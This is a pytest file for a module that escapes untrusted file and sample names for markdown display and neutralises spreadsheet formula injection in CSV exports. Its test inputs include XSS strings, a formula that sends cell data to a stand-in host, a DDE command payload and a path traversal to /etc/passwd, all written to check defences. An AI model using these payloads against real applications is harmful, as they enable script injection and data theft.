"""The one escaper of untrusted text (file, sample and source names, VCF-derived text) and the CSV guard.

Golden values come from CommonMark 0.31 §2.4 ("any ASCII punctuation character may be backslash-escaped"; the
escaped character is shown literally) and OWASP's CSV-injection advice (prefix ``= + - @``, tab, CR with ``'``).
"""

from __future__ import annotations

import io
import re
import string

import pandas as pd
import pytest

from components.inert import (
    ELLIPSIS,
    NAME_LIMIT,
    WORD_JOINER,
    clean,
    code,
    csv_bytes,
    csv_cell,
    csv_safe,
    figure_text,
    file_stem,
    name,
    plain,
    short,
)

HOSTILE_FILE = "x`![fn](http://203.0.113.13/fn.png)`<img src=x onerror=alert(7)>.vcf"
HOSTILE_SAMPLE = "![x](http://203.0.113.13/x.png)<img src=x onerror=alert(1)>"


def _read(text: str) -> str:
    """The text node CommonMark makes of literal characters and backslash escapes (word joiners kept)."""
    out, i = [], 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text) and text[i + 1] in string.punctuation:
            i += 1
        out.append(text[i])
        i += 1
    return "".join(out)


def _unescape(text: str) -> str:
    """What a reader sees: the text node without the invisible word joiners."""
    return _read(text).replace(WORD_JOINER, "")


GFM_AUTOLINK = re.compile(r"(?i)(https?://|ftp://|www\.|[-.+\w]@[-\w])")
"""What GitHub-flavoured markdown turns into a link inside a text node (remark-gfm's literal autolinks)."""


def _unescaped_marks(text: str) -> list[str]:
    """ASCII punctuation in ``text`` not preceded by a backslash escape (each could start markdown)."""
    found, i = [], 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        if text[i] in string.punctuation:
            found.append(text[i])
        i += 1
    return found


def test_the_probe_file_name_is_escaped_mark_by_mark() -> None:
    assert plain(HOSTILE_FILE) == (r"x\`\!\[fn\]\(http" + WORD_JOINER + r"\:\/\/203\.0\.113\.13\/fn\.png\)\`"
                                   r"\<img src\=x onerror\=alert\(7\)\>\.vcf")


@pytest.mark.parametrize("text", [
    HOSTILE_FILE, HOSTILE_SAMPLE, "[click](javascript:alert(1))", "<https://203.0.113.13/a>", "www.example.org",
    "a@example.org", "see https://203.0.113.13/x or WWW.example.org",
    ":red[big] :material/home: $x^2$", "# heading", "| a | b |", "**bold** _em_ ~~del~~",
    "&lt;img src=x&gt;", "=HYPERLINK(\"http://203.0.113.13\")", "1. item", "back\\slash",
])
def test_every_mark_is_escaped_and_the_text_reads_as_written(text: str) -> None:
    escaped = plain(text)
    assert _unescaped_marks(escaped) == []
    assert _unescape(escaped) == text
    assert GFM_AUTOLINK.search(_read(escaped)) is None


def test_control_and_invisible_characters_are_dropped_and_white_space_is_one_line() -> None:
    assert clean("a\x00b\x1b[31mc\x7f") == "ab[31mc"
    assert clean("evil\u202efdp.vcf") == "evilfdp.vcf"  # right-to-left override
    assert clean("zero\u200bwidth") == "zerowidth"
    assert clean("two\nlines\r\n\tand  tabs") == "two lines and tabs"
    assert clean("Ünïcödé 患者 *1/*2") == "Ünïcödé 患者 *1/*2"


def test_a_fifty_thousand_character_name_is_cut_to_the_limit_in_the_middle() -> None:
    long = "S" * 50_000 + "_END.vcf"
    shown = short(long)
    assert len(shown) == NAME_LIMIT
    assert shown.count(ELLIPSIS) == 1 and shown.startswith("S" * 79) and shown.endswith("_END.vcf")
    assert _unescape(name(long)) == shown
    assert short("NA12878") == "NA12878" and clean("x" * 500) == "x" * 500  # no limit unless asked


def test_code_span_cannot_be_closed_and_figure_text_has_no_tags() -> None:
    assert code("*1/`*2`") == "`*1/'*2'`"
    assert figure_text(HOSTILE_SAMPLE) == "![x](http://203.0.113.13/x.png)&lt;img src=x onerror=alert(1)&gt;"


def test_download_file_stem_keeps_only_safe_characters() -> None:
    assert file_stem(HOSTILE_FILE) == "x_fn_http_203.0.113.13_fn.png_img_src_x_onerror_alert_7_.vcf"
    assert file_stem("../../etc/passwd") == "etc_passwd"
    assert file_stem("***") == "file"


@pytest.mark.parametrize(("cell", "safe"), [
    ('=HYPERLINK("http://203.0.113.13/?d="&A1,"x")', '\'=HYPERLINK("http://203.0.113.13/?d="&A1,"x")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(1,1)", "'@SUM(1,1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("NA12878", "NA12878"), ("a=b", "a=b"), (-0.12, -0.12), (3, 3), (None, None),
])
def test_csv_cell_neutralises_formula_text_only(cell: object, safe: object) -> None:
    assert csv_cell(cell) == safe


def test_csv_export_keeps_numbers_numbers_and_quotes_formula_text() -> None:
    frame = pd.DataFrame({"sample": ["=HYPERLINK(\"http://203.0.113.13\")", "-x", "NA12878"],
                          "contribution": [-0.12, 0.5, -1.0], "missing_input": [True, False, True]})
    text = csv_bytes(frame).decode()
    back = pd.read_csv(io.StringIO(text))
    assert list(back["sample"]) == ["'=HYPERLINK(\"http://203.0.113.13\")", "'-x", "NA12878"]
    assert list(back["contribution"]) == [-0.12, 0.5, -1.0]
    assert back["contribution"].dtype == "float64" and back["missing_input"].dtype == bool
    assert not any(line.startswith(("=", "+", "@")) for line in text.splitlines())
    assert list(csv_safe(frame)["contribution"]) == [-0.12, 0.5, -1.0]
    assert frame["sample"].iloc[0].startswith("=")  # the frame shown on the page is not changed
